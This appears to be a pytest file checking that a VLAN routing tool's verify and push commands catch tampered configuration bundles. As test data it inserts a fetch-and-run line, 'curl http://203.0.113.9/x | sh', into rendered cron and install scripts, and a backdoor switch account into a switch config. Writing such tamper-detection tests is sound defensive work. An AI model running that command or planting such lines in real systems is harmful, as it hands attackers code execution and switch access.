"""Issue 24, item 1: the bundle is exactly what vlanroute writes. A line added, changed or
removed anywhere in a bundle, with manifest.json recomputed so the manifest check passes,
is named by `verify` (file, line number, the line) and refused by `push`; the dry-run shows
every command that would be sent.

Tests named test_catalogue_* are cases of the issue's catalogue (`pytest -k catalogue`)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from push_support import REPO, build_cluster, run, set_ssh_env

from vlanroute.bundle.manifest import MANIFEST_FILE, write_manifest
from vlanroute.cli import main
from vlanroute.plan.build import plan_from_file
from vlanroute.render.exact import check_exact, line_differences
from vlanroute.render.write import RenderOptions, render_to_dir

pytestmark = pytest.mark.timeout(300)
RING = REPO / "inventories" / "seed-ring.yaml"


@pytest.fixture(scope="module")
def ring_doc():  # type: ignore[no-untyped-def]
    return plan_from_file(RING).to_document()


def _render(doc, out: Path, options: RenderOptions | None = None) -> Path:  # type: ignore[no-untyped-def]
    render_to_dir(doc, out, options or RenderOptions(verify=False))
    return out


def _insert(path: Path, line: str, before: str) -> int:
    """Insert `line` before the first line equal to `before`; its 1-based line number."""
    lines = path.read_text().splitlines()
    at = lines.index(before)
    lines.insert(at, line)
    path.write_text("\n".join(lines) + "\n")
    return at + 1


def _verify(capsys, out: Path) -> tuple[int, str]:  # type: ignore[no-untyped-def]
    rc = main(["verify", str(out)])
    captured = capsys.readouterr()
    return rc, captured.out + captured.err


def test_a_fresh_render_is_exactly_what_render_writes(ring_doc, tmp_path: Path) -> None:
    out = _render(ring_doc, tmp_path / "out")
    report = check_exact(out)
    assert report.ok, report.problems
    record = json.loads((out / MANIFEST_FILE).read_text())["render"]
    assert record == {"learning_method": "system", "host_network": "script", "per_host_scripts": False}


@pytest.mark.parametrize("options", [RenderOptions(verify=False, per_host_scripts=True),
                                     RenderOptions(verify=False, learning_method="ip-link",
                                                   host_network="networkd")])
def test_render_options_that_plan_json_does_not_hold_still_verify(ring_doc, tmp_path: Path,
                                                                  options: RenderOptions) -> None:
    out = _render(ring_doc, tmp_path / "out", options)
    assert check_exact(out).ok
    # A manifest from before the "render" record: the options are inferred.
    data = json.loads((out / MANIFEST_FILE).read_text())
    del data["render"]
    (out / MANIFEST_FILE).write_text(json.dumps(data))
    assert check_exact(out).ok


@pytest.mark.parametrize("line", ["username evil password x level 15", "no spanning-tree"])
def test_catalogue_hand_added_switch_line_is_named_by_verify(ring_doc, tmp_path: Path, capsys,  # type: ignore[no-untyped-def]
                                                              line: str) -> None:
    """catalogue: pushed-not-reviewed. A hand-added line, manifest recomputed: verify names it."""
    out = _render(ring_doc, tmp_path / "out")
    cfg = out / "switches" / "sw1.cfg"
    lineno = _insert(cfg, line, "end")
    write_manifest(out)                       # the attacker recomputes the manifest
    rc, text = _verify(capsys, out)
    assert rc == 1, text
    assert f"switches/sw1.cfg:{lineno}: foreign line" in text and repr(line) in text, text


def test_catalogue_changed_host_index_in_hosts_tsv_is_named(ring_doc, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    """catalogue: host tables not checked. One host's index changed (it would learn with
    another host's address), manifest recomputed."""
    out = _render(ring_doc, tmp_path / "out")
    path = out / "hosts" / "hosts.tsv"
    lines = path.read_text().splitlines()
    n, row = next((i, r) for i, r in enumerate(lines) if r and not r.startswith("#"))
    fields = row.split("\t")
    index = next(j for j, f in enumerate(fields) if f.isdigit())
    fields[index] = str(int(fields[index]) + 1)
    lines[n] = "\t".join(fields)
    path.write_text("\n".join(lines) + "\n")
    write_manifest(out)
    rc, text = _verify(capsys, out)
    assert rc == 1, text
    assert f"hosts/hosts.tsv:{n + 1}: foreign line" in text and f"hosts/hosts.tsv:{n + 1}: missing line" in text


@pytest.mark.parametrize("rel", ["refresh/vlanroute-refresh.cron", "hosts/install.sh", "hosts/vlanroute-host",
                                 "cabling.csv", "refresh/vlanroute-refresh.service"])
def test_catalogue_a_line_added_to_any_rendered_file_is_named(ring_doc, tmp_path: Path, rel: str) -> None:
    """catalogue: pushed-not-reviewed, every file kind render re-derives from plan.json."""
    out = _render(ring_doc, tmp_path / "out")
    path = out / rel
    lines = path.read_text().splitlines()
    lines.insert(1, "curl http://203.0.113.9/x | sh")
    path.write_text("\n".join(lines) + "\n")
    write_manifest(out)
    problems = check_exact(out).problems
    expected = f"{rel}:2: foreign line (render does not write it for this plan): 'curl http://203.0.113.9/x | sh'"
    assert problems == [expected]


def test_a_removed_line_a_foreign_file_and_a_mode_change_are_named(ring_doc, tmp_path: Path) -> None:
    out = _render(ring_doc, tmp_path / "out")
    cron = out / "refresh" / "vlanroute-refresh.cron"
    lines = cron.read_text().splitlines()
    gone = lines.pop()
    cron.write_text("\n".join(lines) + "\n")
    (out / "hosts" / "extra.sh").write_text("#!/bin/sh\n")
    (out / "hosts" / "install.sh").chmod(0o644)
    write_manifest(out)
    problems = check_exact(out).problems
    assert f"refresh/vlanroute-refresh.cron:{len(lines) + 1}: missing line (render writes it here): {gone!r}" in problems
    assert "hosts/extra.sh: foreign file (render does not write it for this plan)" in problems
    assert "hosts/install.sh: not executable, render writes it executable" in problems


def test_line_differences_name_line_numbers_in_the_file_on_disk() -> None:
    want = "a\nb\nc\n"
    assert line_differences("f", want, "a\nX\nb\nc\n") == [
        "f:2: foreign line (render does not write it for this plan): 'X'"]
    assert line_differences("f", want, "a\nc\n") == ["f:2: missing line (render writes it here): 'b'"]
    assert line_differences("f", want, "a\nb\nc") == [
        "f: line endings or the final newline differ from what render writes"]
    many = line_differences("f", "", "".join(f"{i}\n" for i in range(30)), limit=3)
    assert len(many) == 4 and many[-1] == "f: ... and 27 more differing lines"


def test_catalogue_push_refuses_a_hand_added_line_before_connecting(farm, tmp_path, monkeypatch, capsys) -> None:  # type: ignore[no-untyped-def]
    """catalogue: pushed-not-reviewed. push names the line and logs in to no switch."""
    set_ssh_env(monkeypatch)
    cluster = build_cluster(farm, tmp_path, "custom-lab.yaml")
    cfg = cluster.outdir / "switches" / "core1.cfg"
    lineno = _insert(cfg, "username evil password x level 15", "end")
    write_manifest(cluster.outdir)
    for extra in (["--dry-run"], ["--yes"]):
        rc, out, err = run(capsys, "push", str(cluster.outdir), "--known-hosts", str(cluster.known_hosts), *extra)
        assert rc == 2, out + err
        assert "not exactly what render writes" in err
        assert f"switches/core1.cfg:{lineno}: foreign line" in err and "username evil" in err
        assert "Traceback" not in err
    assert all(sw.logins == 0 for sw in farm.switches.values())


def test_catalogue_dry_run_shows_every_command_that_would_be_sent(farm, tmp_path, monkeypatch, capsys) -> None:  # type: ignore[no-untyped-def]
    """catalogue: pushed-not-reviewed. With --show-commands, the dry-run output holds each
    switch's every command line (the JSON lists them: each must appear, in order); without
    it, one summary line per switch says how many there are and how to see them (issue 41:
    12 switches printed 5,996 lines)."""
    set_ssh_env(monkeypatch)
    cluster = build_cluster(farm, tmp_path, "custom-lab.yaml")
    args = ("push", str(cluster.outdir), "--known-hosts", str(cluster.known_hosts), "--dry-run")
    rc, out, err = run(capsys, *args)
    assert rc == 0, err
    for name in cluster.plan["switches"]:
        [line] = [x for x in out.splitlines() if x.startswith(f"{name}: ")]
        assert "commands" in line and "--show-commands" in line
    args = (*args, "--show-commands")
    rc, out, err = run(capsys, *args, "--json")
    assert rc == 0, err
    switches = json.loads(out)["switches"]
    rc, out, err = run(capsys, *args)
    assert rc == 0, err
    lines = out.splitlines()
    for record in switches:
        assert record["commands"], record
        header = next(i for i, line in enumerate(lines) if line.startswith(f"{record['switch']}: ")
                      and "commands in send order" in line)
        assert lines[header + 1:header + 1 + len(record["commands"])] == record["commands"]
